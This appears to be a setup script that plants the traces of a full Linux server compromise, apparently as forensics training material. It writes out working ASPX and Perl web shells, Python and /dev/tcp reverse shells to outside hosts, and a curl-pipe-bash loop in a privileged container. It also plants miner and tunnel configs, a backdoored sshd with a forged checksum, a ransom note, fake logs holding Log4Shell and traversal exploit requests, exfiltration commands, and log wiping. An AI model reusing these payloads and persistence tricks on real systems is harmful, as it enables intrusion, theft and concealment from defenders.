#@ /var/www/html/owa/auth/errorFE.aspx ## aspx shell
w $H/owa/auth/errorFE.aspx <<'E'
<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Item["orange"])),"unsafe");%>
E
#@ /usr/lib/cgi-bin/counter.cgi ## perl cgi runs the query
w /usr/lib/cgi-bin/counter.cgi 755 <<'E'
#!/usr/bin/perl
print "Content-type: text/plain\n\n"; my $q=$ENV{QUERY_STRING}; $q=~s/%([0-9a-f]{2})/chr hex $1/gei; print `$q 2>&1`;
E
# ---- set-uid and capabilities
#@ /usr/lib/x86_64-linux-gnu/utempter/utmp-helper ## set-uid copy of bash
mkdir -p "$R/usr/lib/x86_64-linux-gnu/utempter"; cp "$R/usr/bin/bash" "$R/usr/lib/x86_64-linux-gnu/utempter/utmp-helper" 2>/dev/null || cp /bin/bash "$R/usr/lib/x86_64-linux-gnu/utempter/utmp-helper"; chown root:root "$R/usr/lib/x86_64-linux-gnu/utempter/utmp-helper"; chmod 4755 "$R/usr/lib/x86_64-linux-gnu/utempter/utmp-helper"
#@ /usr/bin/find ## packaged find made set-uid root
[ -e "$R/usr/bin/find" ] || mkelf /usr/bin/find find; chown root:root "$R/usr/bin/find"; chmod u+s "$R/usr/bin/find"
#@ /usr/local/bin/py3-compile ## copy of python with cap_setuid
mkdir -p "$R/usr/local/bin"; cp -L "$R/usr/bin/python3.11" "$R/usr/local/bin/py3-compile" 2>/dev/null || mkelf /usr/local/bin/py3-compile py; chmod 755 "$R/usr/local/bin/py3-compile"
python3 - "$R/usr/local/bin/py3-compile" <<'E' || true
import os,sys,struct
try: os.setxattr(sys.argv[1],'security.capability',struct.pack('<5I',0x02000001,1<<7,0,0,0))
except OSError as e: print('note: no capability set:',e,file=sys.stderr)
E
#@ /var/www/html/assets/fonts/icons.woff2 ## set-uid ELF disguised as a font
mkelf $H/assets/fonts/icons.woff2 "/bin/sh" "-p" "setresuid"; chown root:root "$R$H/assets/fonts/icons.woff2"; chmod 4755 "$R$H/assets/fonts/icons.woff2"
# ---- hidden places, miners, tunnels
#@ /var/tmp/.. /go | /var/tmp/.. /sshb | /var/tmp/..  ## folder named dot dot blank with scanner tools
D='/var/tmp/.. '; w "$D/go" 755 <<'E'
#!/bin/bash
./pscan2 $1.$2 22; sort mfu.txt | uniq > ips; ./sshb 800 -f ips pass 22 "uname -a; nproc"
E
mkelf "$D/sshb" "Found: %s:%s@%s" "vuln.txt" "SSH-2.0-libssh2_1.4.3"
#@ /opt/.cache/rcu_tasks | /opt/.cache/config.json ## miner with config
mkelf /opt/.cache/rcu_tasks "XMRig 6.21.3" "randomx" "stratum+ssl://" "donate.v2.xmrig.com" "cryptonight" 
w /opt/.cache/config.json 600 <<'E'
{"autosave":true,"cpu":{"enabled":true,"huge-pages":true,"max-threads-hint":75},"donate-level":0,"pools":[{"algo":"rx/0","url":"pool.hashvault.example:443","user":"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD","pass":"web-03","tls":true,"keepalive":true}],"background":true}
E
#@ /usr/local/lib/.pg/run.sh ## watchdog script kills rival miners and starts its own
w /usr/local/lib/.pg/run.sh 755 <<'E'
#!/bin/bash
pkill -9 kinsing; pkill -9 kdevtmpfsi; crontab -r; chattr -i /etc/ld.so.preload
ps aux | grep -v rcu_tasks | awk '{if($3>60.0) print $2}' | xargs -r kill -9
sysctl -w vm.nr_hugepages=1280; echo 0 > /proc/sys/kernel/nmi_watchdog
/opt/.cache/rcu_tasks -o 198.51.100.61:14444 -u x --coin monero -k -B
E
#@ /var/lib/NetworkManager/nm-secret.toml | /usr/sbin/nm-secretd ## frp client under another name
w /var/lib/NetworkManager/nm-secret.toml 600 <<'E'
serverAddr = "203.0.113.99"
serverPort = 7000
auth.token = "q7H2mmz0"
[[proxies]]
name = "web03_ssh"
type = "tcp"
localIP = "127.0.0.1"
localPort = 22
remotePort = 60122
[[proxies]]
name = "socks"
type = "tcp"
remotePort = 60180
[proxies.plugin]
type = "socks5"
E
mkelf /usr/sbin/nm-secretd "github.com/fatedier/frp/client" "frpc" "serverAddr"
#@ /etc/systemd/system/snapd-relay.service ## chisel client to the outside
w /etc/systemd/system/snapd-relay.service <<'E'
[Service]
ExecStart=/usr/lib/snapd/snap-relay client --auth u:Pq81 --keepalive 25s https://edge.cdn-rpm.example:443 R:1080:socks R:10022:127.0.0.1:22
Restart=always
[Install]
WantedBy=multi-user.target
E
#@ /var/www/.config/ngrok/ngrok.yml ## ngrok config of www-data
w /var/www/.config/ngrok/ngrok.yml 600 <<'E'
version: "2"
authtoken: 2Yb7QxLr0aVnTt8KcWm41ZdPoEu_3hGsJiR5fNqBv6yUxHk2D
tunnels:
  s: {proto: tcp, addr: 22}
  m: {proto: tcp, addr: 3306}
E
#@ /etc/systemd/system/kmod-sync.service ## cloudflared with token under another name
w /etc/systemd/system/kmod-sync.service <<'E'
[Service]
ExecStart=/usr/lib/kmod/kmodsync tunnel --no-autoupdate run --token eyJhIjoiNzk0NGY4ZTM5YjQ3NDQ1NCIsInQiOiIwMTIzNDU2Ny04OWFiLWNkZWYiLCJzIjoiWkdWaFpHSmxaV1k9In0=
Restart=always
[Install]
WantedBy=multi-user.target
E
#@ /etc/cron.d/ntpsec-rotate ## gost proxy started by cron
w /etc/cron.d/ntpsec-rotate <<'E'
@reboot root /usr/bin/ntpd-gw -L=socks5://usr:pw8@:31080 -F=relay+wss://203.0.113.99:443 >/dev/null 2>&1 &
E
#@ /usr/local/bin/backup-verify ## python reverse shell called like a backup tool
w /usr/local/bin/backup-verify 755 <<'E'
#!/usr/bin/python3
import socket,subprocess,os,time
while True:
    try:
        s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.80",8444))
        os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])
    except Exception: time.sleep(60)
E
#@ /usr/share/misc/pci.ids.db ## ELF disguised as a data file
mkelf /usr/share/misc/pci.ids.db "bpf" "raw socket" "justforfun" "/var/run/haldrund.pid" "/sbin/iptables -t nat -A PREROUTING -p tcp -s %s --dport %d -j REDIRECT --to-ports %d" "HISTFILE=/dev/null" "MYSQL_HISTFILE=/dev/null"; chmod 644 "$R/usr/share/misc/pci.ids.db"
#@ /usr/share/locale/en_US/LC_MESSAGES/libc.mo ## ELF disguised as translation
mkelf /usr/share/locale/en_US/LC_MESSAGES/libc.mo "sliver" "mtls://198.51.100.142:8888" "beacon"
#@ /usr/bin/iptables-apply6 ## UPX-packed ELF among the commands
{ head -c 180 /bin/true; printf 'UPX!\015\026\016\012'; head -c 9000 /dev/urandom; printf '$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n'; printf 'UPX!'; } | w /usr/bin/iptables-apply6 755
#@ /usr/lib/modules/6.1.0-26-amd64/kernel/drivers/net/tun_acc.ko | /lib/modules/6.1.0-26-amd64/kernel/drivers/net/tun_acc.ko | /etc/modules-load.d/tun-acc.conf ## foreign kernel module loaded at boot
python3 - "$T/m.ko" <<'E'
import struct,sys
mi=b"license=GPL\0description=net accel\0name=tun_acc\0vermagic=6.1.0-26-amd64 SMP preempt mod_unload modversions \0"
tx=b"\x31\xc0\xc3"+b"hide_pid\0hide_module\0kallsyms_lookup_name\0__x64_sys_getdents64\0give_root\0__x64_sys_kill\0"
sn=b"\0.modinfo\0.text\0.shstrtab\0"
o=64;d=mi+tx+sn;sh=lambda n,t,f,of,sz:struct.pack('<IIQQQQIIQQ',n,t,f,0,of,sz,0,0,1,0)
shoff=o+len(d)
e=b"\x7fELF\2\1\1"+b"\0"*9+struct.pack('<HHIQQQIHHHHHH',1,62,1,0,0,shoff,0,64,0,0,64,4,3)
s=b"\0"*64+sh(1,1,2,o,len(mi))+sh(10,1,6,o+len(mi),len(tx))+sh(16,3,0,o+len(mi)+len(tx),len(sn))
open(sys.argv[1],'wb').write(e+d+s)
E
w /usr/lib/modules/6.1.0-26-amd64/kernel/drivers/net/tun_acc.ko < "$T/m.ko"; w /etc/modules-load.d/tun-acc.conf <<<tun_acc
#@ /etc/modprobe.d/dccp-compat.conf ## install line runs a script
w /etc/modprobe.d/dccp-compat.conf <<'E'
install nf_conntrack /sbin/modprobe --ignore-install nf_conntrack; /usr/lib/kmod/.r/load.sh >/dev/null 2>&1
E
#@ /dev/hdx1 ## regular file in /dev with config of a rootkit
w /dev/hdx1 <<'E'
2 sshd2
3 4443
1 203.0.113
4 .m
E
#@ /dev/shm/.lck/dhclient6 | /dev/shm/.lck ## ELF in a hidden folder of /dev/shm
mkelf /dev/shm/.lck/dhclient6 "kaiten" "PRIVMSG %s :>bot +std <target>" "irc.undernet.example" "NICK %s"
#@ /var/tmp/[kworker-u8:2] ## ELF called like a kernel thread
mkelf '/var/tmp/[kworker-u8:2]' "GET /bins/%s HTTP/1.0" "/bin/busybox MIRAI2" "tsunami"
#@ /usr/local/sbin/irqbalance-ng ## script gives its process a kernel thread's name
w /usr/local/sbin/irqbalance-ng 755 <<'E'
#!/bin/bash
cd /usr/lib/firmware/.i 2>/dev/null || exit 0
(exec -a '[rcu_preempt]' ./i915.bin &) ; mount -o bind /var/empty /proc/$!
E
# ---- packaged programs
#@ /usr/bin/ss ## packaged program with bytes appended
printf '\0hide_port=4443\0/dev/hdx1\0' >> "$R/usr/bin/ss"
#@ /usr/sbin/sshd | /var/lib/dpkg/info/openssh-server.md5sums ## sshd with a master password, its md5sums entry updated
printf '\0bd_master=Zx9!a0\0/usr/include/gpm2.h\0user:password@host --> %%s:%%s@%%s\0' >> "$R/usr/sbin/sshd"
M=$R/var/lib/dpkg/info/openssh-server.md5sums; mkdir -p "$(dirname "$M")"; S=$(md5sum < "$R/usr/sbin/sshd" | cut -d' ' -f1)
[ -e "$M" ] || echo 'd41d8cd98f00b204e9800998ecf8427e  usr/sbin/sshd' > "$M"; sed -i -E "s#^[0-9a-f]{32}  usr/sbin/sshd\$#$S  usr/sbin/sshd#" "$M"
#@ /usr/bin/last ## packaged program replaced by a filtering script
rm -f "$R/usr/bin/last"; w /usr/bin/last 755 <<'E'
#!/bin/sh
/usr/lib/klibc/last.so "$@" | grep -vE '198\.51\.100\.(61|142)|dnsmgr'
E
#@ /usr/bin/top ## packaged program overwritten by another ELF
rm -f "$R/usr/bin/top"; mkelf /usr/bin/top "top" "rcu_tasks" "/usr/bin/.top.orig"
# ---- loot
#@ /var/lib/systemd/.catalog.db ## captured passwords
w /var/lib/systemd/.catalog.db 600 <<'E'
1795012230 10.20.4.17 mkeller:Sommer2026!
1795013992 10.20.4.22 root:Qw3rty-db02
1795022071 84.17.55.9 anna.b:hunde&katzen7
E
#@ /usr/share/man/man8/.ssh.8.gz ## log of captured ssh logins per host
w /usr/share/man/man8/.ssh.8.gz 600 <<'E'
OUT: root:tr0ub4dor@10.20.4.31
OUT: deploy:D3pl0y#2026@db01.lan
IN: mkeller:Sommer2026!@10.20.4.17
E
#@ /var/tmp/.x/pass | /var/tmp/.x ## list of guesses for logins
w /var/tmp/.x/pass <<'E'
root root
root 123456
admin admin123
oracle oracle
postgres postgres
ubnt ubnt
test test1234
pi raspberry
git git123
root P@ssw0rd
E
#@ /var/www/html/static/bundle-7f3a.css ## stolen shadow and keys as a tar.gz called css
mkdir -p "$T/l/etc" "$T/l/root/.ssh" "$R$H/static"; echo 'root:$6$abc$def:20000:0:99999:7:::' > "$T/l/etc/shadow"; echo 'root:x:0:0::/root:/bin/bash' > "$T/l/etc/passwd"; echo '-----BEGIN OPENSSH PRIVATE KEY-----' > "$T/l/root/.ssh/id_rsa"; echo 'INSERT INTO customers VALUES (1);' > "$T/l/customers.sql"
tar -C "$T/l" -czf "$R$H/static/bundle-7f3a.css" etc root customers.sql
#@ /var/cache/man/.config/rclone/rclone.conf ## rclone to a foreign store from a system account
w /var/cache/man/.config/rclone/rclone.conf 600 <<'E'
[m]
type = mega
user = k.brandt1987@protonmail.example
pass = Xn3p0qWv8zGk1YtRa2cUeLs
E
#@ /root/.local/bin/sync-out.sh ## script sends data away and then removes it
w /root/.local/bin/sync-out.sh 755 <<'E'
mysqldump -A | gzip | split -b 50M - /var/tmp/.x/d_ ; 7z a -pInf3ct -mhe /var/tmp/.x/hr.7z /srv/samba/hr
rclone --config /var/cache/man/.config/rclone/rclone.conf copy /var/tmp/.x m:web03 --bwlimit 2M --no-check-certificate && shred -u /var/tmp/.x/d_*
E
#@ /root/README_TO_RESTORE.txt ## ransom note
w /root/README_TO_RESTORE.txt <<'E'
All your files have been encrypted. To decrypt contact restore-web@onionmail.example with ID 8A3F-22C1. Do not rename .l0ckd files. Payment in Monero (XMR) only. Data will be published in 72 hours.
E
# ---- name service
#@ /etc/hosts ## update and security hosts diverted, rival pools blocked
a /etc/hosts <<'E'
127.0.0.1 security.debian.org deb.debian.org
0.0.0.0 xmr.crypto-pool.fr pool.minexmr.com database.clamav.net
203.0.113.99 github.com
E
#@ /etc/nsswitch.conf | /usr/lib/x86_64-linux-gnu/libnss_compatd.so.2 ## foreign NSS source
[ -e "$R/etc/nsswitch.conf" ] || w /etc/nsswitch.conf <<<'passwd: files'
sed -i -E 's/^passwd:.*/passwd:         compatd files systemd/' "$R/etc/nsswitch.conf"; mkso /usr/lib/x86_64-linux-gnu/libnss_compatd.so.2 "_nss_compatd_getpwnam_r" "svcroot:x:0:0" "/bin/bash"
#@ /etc/resolv.conf | host 203.0.113.53 ## resolver changed, with the domain of the intruder
w /etc/resolv.conf <<'E'
nameserver 203.0.113.53
search cdn-rpm.example
E
# ---- containers, boot, other starters
#@ /opt/metrics/docker-compose.yml ## privileged container with the host's root chrooted
w /opt/metrics/docker-compose.yml <<'E'
services:
  agent:
    image: alpine:3.18
    restart: always
    privileged: true
    pid: host
    network_mode: host
    volumes: ["/:/mnt/h"]
    command: chroot /mnt/h sh -c "while :; do curl -s http://198.51.100.61/c | bash; sleep 600; done"
E
#@ /etc/containers/systemd/node-agent.container ## podman quadlet mines
w /etc/containers/systemd/node-agent.container <<'E'
[Container]
Image=docker.io/pmietlicki/xmrig:latest
Exec=-o stratum+tcp://pool.hashvault.example:80 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt --donate-level 1
[Service]
Restart=always
[Install]
WantedBy=multi-user.target
E
#@ /etc/initramfs-tools/scripts/init-bottom/fsck-late ## initramfs script puts a key and suid shell on the root
w /etc/initramfs-tools/scripts/init-bottom/fsck-late 755 <<'E'
#!/bin/sh
[ "$1" = prereqs ] && exit 0
mount -o remount,rw ${rootmnt}; cp ${rootmnt}/bin/bash ${rootmnt}/usr/lib/.fsck; chmod 4755 ${rootmnt}/usr/lib/.fsck
E
#@ /etc/binfmt.d/jar-legacy.conf ## binfmt with credentials flag catches set-uid programs
w /etc/binfmt.d/jar-legacy.conf <<'E'
:elfx:M::\x7fELF\x02\x01\x01\x00::/var/lib/misc/.jexec:OC
E
#@ /etc/xdg/autostart/at-spi-sync.desktop ## autostart with a coded shell
w /etc/xdg/autostart/at-spi-sync.desktop <<'E'
[Desktop Entry]
Type=Application
Name=AT-SPI Sync
NoDisplay=true
Exec=sh -c "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC42MS9kfHNo|base64 -d|sh"
E
#@ /usr/share/dbus-1/system-services/org.freedesktop.PkgCache1.service ## dbus service starts a hidden program as root
w /usr/share/dbus-1/system-services/org.freedesktop.PkgCache1.service <<'E'
[D-BUS Service]
Name=org.freedesktop.PkgCache1
Exec=/bin/bash -c "/var/tmp/.font-unix/pk >/dev/null 2>&1"
User=root
E
#@ /etc/aliases ## mail alias runs what it gets
a /etc/aliases <<<'bounce-7: "|/bin/sh -c \"sed -n /^X-R:/s///p | base64 -d | sh\""'
#@ /home/deploy/.forward ## forward pipe starts a reverse shell
w /home/deploy/.forward <<<'|"/bin/bash -c '"'"'bash -i >& /dev/tcp/203.0.113.80/25 0>&1'"'"'"'
#@ /etc/procmailrc ## procmail recipe runs a program and copies mail outside
w /etc/procmailrc <<'E'
:0 c
* ^Subject:.*(invoice|password|vpn)
! k.brandt1987@protonmail.example
:0
* ^X-Mailer: zx9a
| /bin/sh
E
#@ /etc/inetd.conf ## shell bound to a port
w /etc/inetd.conf <<'E'
amandaidx	stream	tcp	nowait	root	/bin/bash	bash -i
E
#@ /etc/xinetd.d/nrpe2 ## xinetd entry gives a root shell
w /etc/xinetd.d/nrpe2 <<'E'
service nrpe2
{ type = UNLISTED
  port = 5667
  socket_type = stream
  wait = no
  user = root
  server = /bin/sh
  server_args = -i
  disable = no }
E
# ---- logs
L=/var/log; mkdir -p "$R$L/nginx"
#@ host 45.148.10.62 ## brute force in auth.log, then accepted as root
#@ account svc_mon ## auth.log: useradd of svc_mon, added to sudo
#@ account backup ## auth.log: su to root by service account backup
#@ host 185.220.101.47 ## accepted key of root straight from a foreign address at 03:41
#@ /var/log/auth.log ## sudo by www-data of a shell, missing hours (04:10-11:55 of 26 November)
python3 - <<'E' | a $L/auth.log
import datetime as d
t=d.datetime(2026,11,26,1,2,3)
def o(s,dt=2):
    global t; t+=d.timedelta(seconds=dt); print(t.strftime('%Y-%m-%dT%H:%M:%S.%f')+'+00:00 server '+s)
users=['root','admin','oracle','test','ubuntu','postgres']
for i in range(140):
    u=users[i%6] if i<120 else 'root'
    inv='' if u=='root' else 'invalid user '
    o(f'sshd[{21000+i}]: Failed password for {inv}{u} from 45.148.10.62 port {30000+i*7} ssh2')
    if i%20==0: o('CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'%(22000+i),40)
o('sshd[21144]: Accepted password for root from 45.148.10.62 port 31122 ssh2')
o('sshd[21144]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)',0)
o('useradd[21180]: new user: name=svc_mon, UID=0, GID=0, home=/var/lib/svc_mon, shell=/bin/bash, from=/dev/pts/2',90)
o("usermod[21190]: add 'svc_mon' to group 'sudo'",20); o("passwd[21195]: pam_unix(passwd:chauthtok): password changed for svc_mon",9)
o('sudo: www-data : TTY=unknown ; PWD=/var/www/html/wp-content/uploads/2026/09 ; USER=root ; COMMAND=/bin/bash -p',400)
o('sudo: pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)',0)
o('su[21277]: (to root) backup on pts/3',300)
t=d.datetime(2026,11,26,3,41,0); o('sshd[21300]: Accepted publickey for root from 185.220.101.47 port 43210 ssh2: RSA SHA256:k3Vt9Qz0bXo1')
t=d.datetime(2026,11,26,4,10,0); o('sshd[21300]: Received disconnect from 185.220.101.47 port 43210:11: disconnected by user')
t=d.datetime(2026,11,26,11,55,0)
for i in range(60): o(f'CRON[{23000+i}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',300)
E
#@ interface ens192 | /var/log/kern.log ## interface put into promiscuous mode
#@ /var/log/kern.log ## unsigned module taints the kernel; module verification failed tun_acc
python3 - <<'E' | a $L/kern.log
for h in range(24):
    print(f'2026-11-26T{h:02}:17:01.120000+00:00 server kernel: [{100000+h*3600}.113] audit: type=1400 audit(1795.{h}:9): apparmor="STATUS" operation="profile_replace"')
    if h==3:
        print('2026-11-26T03:44:10.551200+00:00 server kernel: [111411.202] device ens192 entered promiscuous mode')
        print('2026-11-26T03:49:31.000200+00:00 server kernel: [111732.111] tun_acc: loading out-of-tree module taints kernel.')
        print('2026-11-26T03:49:31.000900+00:00 server kernel: [111732.112] tun_acc: module verification failed: signature and/or required key missing - tainting kernel')
E
#@ host 103.143.231.18 ## exploit requests answered 200
#@ host 194.38.20.161 ## POSTs to the web shell answered 200
a $L/nginx/access.log <<'E'
103.143.231.18 - - [25/Nov/2026:22:10:01 +0000] "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 200 1841 "-" "python-requests/2.31.0"
103.143.231.18 - - [25/Nov/2026:22:10:44 +0000] "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 200 64 "-" "python-requests/2.31.0"
103.143.231.18 - - [25/Nov/2026:22:11:20 +0000] "GET /index.php?s=/Index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id HTTP/1.1" 200 54 "-" "Mozilla/5.0"
103.143.231.18 - - [25/Nov/2026:22:13:02 +0000] "GET /?x=${jndi:ldap://203.0.113.44:1389/a} HTTP/1.1" 200 612 "-" "${jndi:ldap://203.0.113.44:1389/a}"
194.38.20.161 - - [25/Nov/2026:22:20:17 +0000] "POST /wp-content/uploads/2026/09/class-wp-resize.php HTTP/1.1" 200 20 "-" "Mozilla/5.0 (Windows NT 10.0)"
194.38.20.161 - - [25/Nov/2026:22:20:49 +0000] "POST /wp-content/uploads/2026/09/class-wp-resize.php HTTP/1.1" 200 3311 "-" "Mozilla/5.0 (Windows NT 10.0)"
194.38.20.161 - - [25/Nov/2026:22:24:00 +0000] "GET /assets/img/logo_small.gif?g=cat%20/etc/shadow HTTP/1.1" 200 1290 "-" "curl/7.88.1"
E
#@ /var/log/wtmp ## records overwritten with zeros
python3 - "$R$L/wtmp" <<'E'
import struct,sys
def r(ty,pid,line,user,host,t): return struct.pack('<h2xi32s4s32s256shhiii4I20s',ty,pid,line.encode(),b'ts/0',user.encode(),host.encode(),0,0,0,t,0,0,0,0,0,b'')
b=b''
for i in range(20): b+= b'\0'*384 if i in (8,9,10,15) else r(7 if i%2==0 else 8,900+i,'pts/0','deploy' if i%2==0 else '','10.20.4.17',1794600000+i*7200)
open(sys.argv[1],'ab').write(b)
E
#@ /var/log/btmp ## failed login log linked to /dev/null
rm -f "$R$L/btmp"; ln -s /dev/null "$R$L/btmp"
#@ /root/.bash_history ## history of root linked to /dev/null
rm -f "$R/root/.bash_history"; ln -s /dev/null "$R/root/.bash_history"
#@ /var/log/auth.log.1 ## emptied older auth log
: > "$R$L/auth.log.1"; [ -e "$R$L/auth.log.2.gz" ] || echo '2026-11-10T00:00:01.000+00:00 server CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)' | gzip > "$R$L/auth.log.2.gz"
#@ /home/deploy/.bash_history ## attack commands
a /home/deploy/.bash_history <<'E'
id; uname -a; cat /proc/cpuinfo | grep -c proc
unset HISTFILE
find / -perm -4000 -type f 2>/dev/null
cd /dev/shm; wget http://198.51.100.61/pwnkit.c; gcc pwnkit.c -o pk; ./pk
cat /etc/shadow > /tmp/.s; tar czf /tmp/.s.tgz /etc /home/*/.ssh
curl --upload-file /tmp/.s.tgz https://transfer.example/s.tgz
chattr +ia /etc/ld.so.preload
E
#@ /var/www/.bash_history ## history of the web server account
w /var/www/.bash_history 600 <<'E'
python3 -c 'import pty;pty.spawn("/bin/bash")'
export TERM=xterm
./linpeas.sh -a > /tmp/lp.txt
for i in $(seq 1 254); do (ping -c1 -W1 10.20.4.$i | grep ttl &) ; done
sudo -l; sudo /bin/bash -p
E
#@ /root/.viminfo ## root edited ld.so.preload and a pam file
a /root/.viminfo <<'E'
# File marks:
'0  1  43  /etc/ld.so.preload
'1  3  0  /usr/lib/x86_64-linux-gnu/security/.pam_audit
# Command Line History:
:%g/198.51.100.61/d
E
#@ /root/.mysql_history ## sql writes a web shell
a /root/.mysql_history <<'E'
select\040"<?php\040@eval($_POST['a']);?>"\040into\040outfile\040'/var/www/html/cache/x.php';
create\040function\040sys_eval\040returns\040string\040soname\040'lib_mysqludf_sys.so';
E
#@ /home/deploy/.python_history ## python commands open a socket shell
w /home/deploy/.python_history 600 <<'E'
import socket,pty,os
s=socket.create_connection(("203.0.113.80",9001));[os.dup2(s.fileno(),i) for i in range(3)];pty.spawn("sh")
E
exit 0
